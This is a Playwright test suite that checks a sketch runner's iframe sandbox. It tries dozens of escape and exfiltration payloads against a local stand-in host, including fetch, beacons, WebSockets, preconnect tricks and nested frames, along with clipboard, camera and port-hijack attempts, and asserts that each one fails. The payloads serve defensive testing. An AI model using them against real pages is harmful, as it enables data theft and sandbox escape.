import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, lines, look, openBench, runIn, test } from './player';

let stranger: Server;
let address = '';
let visits = 0;
let requests = 0;

test.beforeAll(async () => {
	stranger = createServer((_, response) => {
		requests++;
		response.end('secret');
	});
	// Even a connection without a request tells a stranger something.
	stranger.on('connection', () => visits++);
	await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
	address = `127.0.0.1:${(stranger.address() as AddressInfo).port}`;
});
test.afterAll(() => void stranger.close());

test('the frame is allowed scripts, sound and fullscreen, and nothing more', async ({
	bench,
	run
}) => {
	await run('function setup() {}');
	await expect(bench.getByTitle('Canvas')).toBeVisible();
	await expect(bench.locator('iframe')).toHaveCount(2);
	for (const frame of await bench.locator('iframe').all()) {
		const names = await frame.evaluate((element) => element.getAttributeNames());
		expect(
			names
				.filter((name) => !['src', 'style', 'title', 'aria-hidden', 'tabindex'].includes(name))
				.sort()
		).toEqual(['allow', 'sandbox']);
		expect(await frame.getAttribute('sandbox')).toBe('allow-scripts');
		expect(await frame.getAttribute('allow')).toBe('autoplay; fullscreen');
	}
});

/** Each tries one way out; its value is `out` when it got there. `HOST` is a stranger's address, `SAME` the page's own. */
const ATTACKS: Record<string, string> = {
	'the page around it': 'parent.document.title; return "out"',
	'the page’s globals': 'top.bench.player; return "out"',
	'the page’s place': 'top.location.href = "http://HOST/top"; await wait(300)',
	'the element it is in': 'return window.frameElement ? "out" : "in"',
	cookies:
		'return document.cookie === undefined ? "in" : (document.cookie = "a=1", document.cookie ? "out" : "in")',
	'local storage': 'localStorage.x = 1; return "out"',
	'session storage': 'sessionStorage.x = 1; return "out"',
	'a database':
		'await new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = no; }); return "out"',
	caches: 'await caches.open("x"); return "out"',
	'a service worker': 'await navigator.serviceWorker.register("blob:x"); return "out"',
	'the page’s own origin': 'await fetch("SAME/bench"); return "out"',
	fetch: 'await fetch("http://HOST/", { mode: "no-cors" }); return "out"',
	XMLHttpRequest:
		'await new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open("GET", "http://HOST/"); x.onload = yes; x.onerror = no; x.send(); }); return "out"',
	'an image':
		'await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "http://HOST/i.png"; }); return "out"',
	'p5’s loaders':
		'const i = await loadImage("http://HOST/i.png"); return i && i.width > 1 ? "out" : "in"',
	'a style sheet':
		'const s = document.createElement("style"); s.textContent = "@import url(http://HOST/a.css); body { background: url(http://HOST/b.png) } @font-face { font-family: f; src: url(http://HOST/f) } * { font-family: f }"; document.head.append(s); await wait(300)',
	'a beacon': 'navigator.sendBeacon("http://HOST/", "x"); await wait(300)',
	'a web socket':
		'await new Promise((yes, no) => { const w = new WebSocket("ws://HOST/"); w.onopen = yes; w.onerror = no; }); return "out"',
	'an event source':
		'await new Promise((yes, no) => { const e = new EventSource("http://HOST/"); e.onopen = yes; e.onerror = no; }); return "out"',
	WebRTC: 'new (window.RTCPeerConnection || window.webkitRTCPeerConnection)(); return "out"',
	WebTransport: 'new WebTransport("https://HOST/"); return "out"',
	'a worker of its own':
		"const w = new Worker(URL.createObjectURL(new Blob([\"fetch('http://HOST/', { mode: 'no-cors' }).then(() => postMessage('out'), () => postMessage('in'))\"]))); return await new Promise((yes) => { w.onmessage = (e) => yes(e.data); })",
	'a form':
		'const f = document.createElement("form"); f.action = "http://HOST/"; document.body.append(f); f.submit(); await wait(300)',
	'a window': 'return window.open("http://HOST/") ? "out" : "in"',
	'a link that is followed':
		'const a = document.createElement("a"); a.href = "http://HOST/"; a.target = "_blank"; a.ping = "http://HOST/ping"; document.body.append(a); a.click(); await wait(300)',
	'an early connection':
		'const l = document.createElement("link"); l.rel = "preconnect"; l.href = "http://HOST/"; document.head.append(l); await wait(500)',
	'an early connection, written':
		'document.body.innerHTML = "<link rel=preconnect href=http://HOST/>"; await wait(500)',
	'an early connection, parsed':
		'document.body.append(new DOMParser().parseFromString("<link rel=preconnect href=http://HOST/>", "text/html").querySelector("link")); await wait(500)',
	'an early connection, renamed':
		"document.body.append(new DOMParser().parseFromString(\"<h:link xmlns:h='http://www.w3.org/1999/xhtml' rel='preconnect' href='http://HOST/'/>\", \"text/xml\").documentElement); await wait(500)",
	'an early connection, disguised':
		'let n = 0; const l = document.createElement({ toString: () => (n++ ? "link" : "p") }); l.rel = "preconnect"; l.href = "http://HOST/"; document.head.append(l); await wait(300)',
	'a nested page':
		'const i = document.createElement("iframe"); document.body.append(i); new i.contentWindow.RTCPeerConnection(); return "out"',
	'a nested page, written':
		'document.body.insertAdjacentHTML("beforeend", "<iframe srcdoc=\'<script>new RTCPeerConnection()</script>\'></iframe>"); return window.length ? "out" : "in"',
	'a written document': 'document.write("<iframe></iframe>"); return "out"',
	'an unsafe template': 'document.body.setHTMLUnsafe("<iframe></iframe>"); return "out"',
	'a message to the page': 'parent.postMessage({ type: "problem" }, "*"); return "in"',
	'another frame of the page':
		'for (let i = 0; i < parent.length; i++) if (parent[i] !== window) { parent[i].postMessage("skissa", "*", [new MessageChannel().port1]); try { parent[i].document; return "out" } catch {} } return "in"',
	'the clipboard': 'await navigator.clipboard.readText(); return "out"',
	'the camera': 'await navigator.mediaDevices.getUserMedia({ video: true }); return "out"',
	'the place on earth':
		'await new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)); return "out"',
	'a notification': 'return (await Notification.requestPermission()) === "granted" ? "out" : "in"'
};

test.describe('one page', () => {
	/** Every attack is a sketch in a frame of its own; the page around them stays, and must stay itself. */
	let attacked: Page;
	test.beforeAll(async ({ browser, server }) => {
		attacked = await browser.newPage();
		await openBench(attacked, server.origin);
		await attacked.evaluate(() => Object.assign(window, { untouched: true }));
	});
	test.afterAll(() => attacked.close());

	for (const [name, attack] of Object.entries(ATTACKS))
		test(`a sketch does not reach ${name}`, async ({ server }) => {
			visits = 0;
			const text = attack.replaceAll('HOST', address).replaceAll('SAME', server.origin);
			await runIn(
				attacked,
				`const wait = (ms) => new Promise((done) => setTimeout(done, ms));
async function setup() {
  let said = 'in';
  try { said = (await (async () => { ${text} })()) ?? 'in'; } catch (error) {}
  console.log(${JSON.stringify(name)}, said);
}`
			);
			await expect.poll(async () => (await lines(attacked)).at(-1)).toBe(`${name} in`);
			await attacked.waitForTimeout(100);
			expect(visits).toBe(0);
			expect(attacked.url()).toBe(`${server.origin}/bench`);
			expect(await attacked.evaluate(() => 'untouched' in window)).toBe(true);
			expect(attacked.context().pages()).toHaveLength(1);
		});
});

test('a sketch that navigates itself away is replaced, and its request is never made', async ({
	bench,
	run,
	watch
}) => {
	watch.allowConsole(/./);
	watch.allowRequest(/./);
	requests = 0;
	await run(`function setup() { location.href = 'http://${address}/away?secret'; }`);
	await expect
		.poll(async () => (await look(bench)).state, { timeout: 12_000 })
		.toBe('unresponsive');
	// The browser may open a connection before it asks the policy; nothing is sent over it.
	expect(requests).toBe(0);
	await run('function setup() { console.log("back"); }');
	await expect.poll(() => lines(bench)).toEqual(['back']);
});

test('a sketch can neither take the port nor speak in the runtime’s name', async ({
	bench,
	run
}) => {
	await run(`const seen = [];
MessagePort.prototype.postMessage = function (message) { seen.push(message); };
addEventListener('message', (event) => seen.push(event.data), true);
Array.prototype.push = new Proxy(Array.prototype.push, { apply(target, self, parts) { for (const part of parts) if (part instanceof MessagePort) seen.push(part); return Reflect.apply(target, self, parts); } });
window.dispatchEvent(new MessageEvent('message', { data: 'skissa', source: parent, ports: [new MessageChannel().port1] }));
function setup() { createCanvas(20, 20); }
function draw() { if (frameCount === 30) { console.log('seen', seen.filter((one) => one !== 'skissa' && one !== null).length); } }`);
	await expect.poll(() => lines(bench)).toEqual(['seen 0']);
	expect((await look(bench)).problems).toEqual([]);
});

test('a sketch cannot reset its guard', async ({ bench, run }) => {
	await run(`const guards = Object.getOwnPropertyNames(window).filter((name) => /guard/.test(name));
performance.now = () => 0; Date.now = () => 0;
for (const name of guards) { try { delete window[name]; window[name] = () => {}; Object.defineProperty(window, name, { value: () => {} }); } catch {} }
function setup() { createCanvas(20, 20); console.log(guards.length); }
function draw() { while (frameCount > 2) { for (const name of guards) window[name].open?.({}); } }`);
	await expect
		.poll(async () => (await look(bench)).problems)
		.toMatchObject([{ code: 'loop_too_long', line: 5 }]);
	expect(await lines(bench)).toEqual(['1']);
});
